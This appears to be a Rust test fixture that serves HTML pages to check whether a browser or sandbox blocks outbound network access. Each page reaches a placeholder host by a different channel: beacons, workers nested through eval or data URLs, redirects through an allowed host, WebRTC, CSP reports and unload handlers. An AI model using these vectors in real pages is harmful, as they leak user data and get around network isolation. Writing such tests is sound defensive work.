//! Pages that try to reach an address over the network, each in another way.

use crate::page::Page;
use crate::test_web::TestWebBuilder;

/// Pages that send a request to a host in different ways. `HOST` stands for the host.
pub const REQUESTS: &[(&str, &str)] = &[
    ("frame", "<iframe src='http://HOST/x'></iframe>"),
    ("object", "<object data='http://HOST/x'></object>"),
    ("image", "<img src='http://HOST/x'>"),
    ("video", "<video src='http://HOST/x' autoplay></video>"),
    ("style", "<link rel=stylesheet href='http://HOST/x'>"),
    ("style of a style", "<style>@import url(http://HOST/x);</style>"),
    ("background", "<style>body { background: url(http://HOST/x) }</style>"),
    (
        "font",
        "<style>@font-face { font-family: f; src: url(http://HOST/x) } p { font-family: f }</style><p>f",
    ),
    ("script", "<script src='http://HOST/x'></script>"),
    ("module", "<script type=module src='http://HOST/x'></script>"),
    ("prefetch", "<link rel=prefetch href='http://HOST/x'>"),
    ("preload", "<link rel=preload as=script href='http://HOST/x'>"),
    ("fetch", "<script>fetch('http://HOST/x', {mode: 'no-cors'})</script>"),
    ("request", "<script>r = new XMLHttpRequest(); r.open('GET', 'http://HOST/x'); r.send()</script>"),
    ("beacon", "<script>navigator.sendBeacon('http://HOST/x', 'data')</script>"),
    ("socket", "<script>new WebSocket('ws://HOST/x')</script>"),
    ("event source", "<script>new EventSource('http://HOST/x')</script>"),
    (
        "worker",
        "<script>new Worker(URL.createObjectURL(new Blob([\"importScripts('http://HOST/x')\"])))</script>",
    ),
    (
        "shared worker",
        "<script>new SharedWorker(URL.createObjectURL(new Blob([\"importScripts('http://HOST/x')\"])))</script>",
    ),
    (
        "form",
        "<form method=post action='http://HOST/x'><input name=a></form><script>document.forms[0].submit()</script>",
    ),
    ("navigation", "<script>location = 'http://HOST/x'</script>"),
    ("refresh", "<meta http-equiv=refresh content='0; url=http://HOST/x'>"),
    ("window", "<script>window.open('http://HOST/x')</script>"),
    ("save as", "<a download href='http://HOST/x'>x</a><script>document.querySelector('a').click()</script>"),
    (
        "script of a frame",
        "<iframe srcdoc=\"<script>fetch('http://HOST/x', {mode: 'no-cors'})</script>\"></iframe>",
    ),
    ("frame of a frame", "<iframe srcdoc=\"<iframe src='http://HOST/x'></iframe>\"></iframe>"),
    ("frame of data", "<iframe src=\"data:text/html,<img src='http://HOST/x'>\"></iframe>"),
    ("frame in a box", "<iframe sandbox srcdoc=\"<img src='http://HOST/x'>\"></iframe>"),
    (
        "frame of a blob",
        "<iframe></iframe><script>document.querySelector('iframe').src =
         URL.createObjectURL(new Blob([\"<img src='http://HOST/x'>\"], {type: 'text/html'}))</script>",
    ),
    ("frame that saves", "<iframe srcdoc=\"<a download href='http://HOST/x'>x</a>\" onload=
         \"contentDocument.querySelector('a').click()\"></iframe>"),
    ("embedded", "<embed src='http://HOST/x'>"),
    ("poster", "<video poster='http://HOST/x'></video>"),
    ("choice of images", "<img srcset='http://HOST/x 1x'>"),
    ("drawing", "<svg><image href='http://HOST/x' width=9 height=9 /></svg>"),
    ("import", "<script>import('http://HOST/x').catch(() => 0)</script>"),
    (
        "worker of data",
        "<script>new Worker(\"data:text/javascript,fetch('http://HOST/x', {mode: 'no-cors'})\")</script>",
    ),
    (
        "worker of a worker",
        "<script>const made = (code) => `new Worker(URL.createObjectURL(new Blob([${JSON.stringify(code)}])))`;
         eval(made(made(\"fetch('http://HOST/x', {mode: 'no-cors'})\")))</script>",
    ),
    (
        "worker of a frame",
        "<iframe srcdoc=\"<script>new Worker(URL.createObjectURL(
         new Blob(['fetch(`http://HOST/x`, {mode: `no-cors`})'])))</script>\"></iframe>",
    ),
    (
        "socket of a worker",
        "<script>new Worker(\"data:text/javascript,new WebSocket('ws://HOST/x')\")</script>",
    ),
    ("service worker", "<script>navigator.serviceWorker.register('/worker.js?HOST/x')</script>"),
    (
        "beacon at the end",
        "<script>onpagehide = () => navigator.sendBeacon('http://HOST/x', 'bye'); location = '/end'</script>",
    ),
    (
        "request at the end",
        "<script>onpagehide = () => fetch('http://HOST/x', {mode: 'no-cors', keepalive: true});
         location = '/end'</script>",
    ),
    // The address is behind a redirect of an allowed host.
    ("redirected image", "<img src='http://r.test/?http://HOST/x'>"),
    ("redirected frame", "<iframe src='http://r.test/?http://HOST/x'></iframe>"),
    ("redirected fetch", "<script>fetch('http://r.test/?http://HOST/x', {mode: 'no-cors'})</script>"),
    ("redirected navigation", "<script>location = 'http://r.test/?http://HOST/x'</script>"),
    (
        "redirected request of a worker",
        "<script>new Worker(\"data:text/javascript,importScripts('http://r.test/?http://HOST/x')\")</script>",
    ),
    // A report of its content security policy.
    (CSP_REPORT, "<img src='/nothing'>"),
];

/// The page that is the only one with a header.
const CSP_REPORT: &str = "CSP report";

/// Pages that use other kinds of network access: some need HTTPS, others send nothing that an HTTP server can receive.
pub const OTHER_ACCESSES: &[(&str, &str)] = &[
    ("preconnect", "<link rel=preconnect href='http://HOST/'><link rel=dns-prefetch href='http://HOST/'>"),
    (
        "calls",
        "<script>
         const c = new RTCPeerConnection({iceServers: [{urls: 'stun:HOST'},
             {urls: 'turn:HOST?transport=tcp', username: 'a', credential: 'b'}, {urls: 'turn:HOST', username: 'a', credential: 'b'}]});
         c.createDataChannel('x'); c.createOffer().then((offer) => c.setLocalDescription(offer))</script>",
    ),
    ("transport", "<script>new WebTransport('https://HOST/x').ready.catch(() => 0)</script>"),
    (
        "prediction",
        r#"<script type=speculationrules>{
            "prefetch": [{"source": "list", "urls": ["http://HOST/x", "https://HOST/x"], "eagerness": "immediate"}],
            "prerender": [{"source": "list", "urls": ["http://HOST/x"], "eagerness": "immediate"}]}</script>
            <link rel=prerender href='http://HOST/x'>"#,
    ),
    ("ping", "<a href='#x' ping='http://HOST/x'>x</a><script>document.querySelector('a').click()</script>"),
    ("icon", "<link rel=icon href='http://HOST/x'><link rel=manifest href='http://HOST/x'>"),
    ("window without an opener", "<script>window.open('http://HOST/x', '_blank', 'noopener')</script>"),
    // This page does not navigate away: it unloads when it is closed.
    ("beacon at unload", "<script>onpagehide = onunload = () => navigator.sendBeacon('http://HOST/x', 'bye')</script>"),
    (
        "fetch at unload",
        "<script>onpagehide = () => fetch('http://HOST/x', {mode: 'no-cors', keepalive: true})</script>",
    ),
    (
        "transport of a worker",
        "<script>new Worker(\"data:text/javascript,new WebTransport('https://HOST/x')\")</script>",
    ),
];

/// A host on which pages may register service workers without HTTPS.
pub const ATTACKER: &str = "a.localhost";

const SERVICE_WORKER: &str =
    "oninstall = () => fetch('http://' + location.search.slice(1), {mode: 'no-cors'}).catch(() => 0)";

impl TestWebBuilder {
    /// Serves such pages at `http://a.localhost/PREFIX` with their indexes. Their requests are for `http://HOST/INDEX`, where
    /// `host` returns the host for an index. The words of a page are "words of the page"; it ends with `then`.
    #[must_use]
    pub fn attacks(
        self,
        pages: &[(&str, &str)],
        prefix: &str,
        host: impl Fn(usize) -> String,
        then: impl Fn(usize) -> String,
    ) -> Self {
        let redirect = |request: &crate::ReceivedRequest| {
            Page::redirect(302, request.url.split_once('?').map_or("/", |(_, target)| target))
        };
        let mut web = self
            .page(&format!("http://{ATTACKER}/end"), Page::text("words of the page"))
            .page_with("http://r.test/", redirect);
        for (index, (name, html)) in pages.iter().enumerate() {
            let host = host(index);
            let html = html.replace("HOST/x", &format!("{host}/{index}")).replace("HOST", &host);
            let html =
                format!("<title>{name}</title><p>words of the page</p>{html}{then}", then = then(index));
            let mut page = Page::html(html);
            if *name == CSP_REPORT {
                let policy = format!("img-src 'none'; report-uri http://{host}/{index}");
                page = page.header("content-security-policy", &policy);
            }
            let worker = format!("http://{ATTACKER}/worker.js?{host}/{index}");
            web = web
                .page(&format!("http://{ATTACKER}/{prefix}{index}"), page)
                .page(&worker, Page::new("text/javascript", SERVICE_WORKER));
        }
        web
    }
}
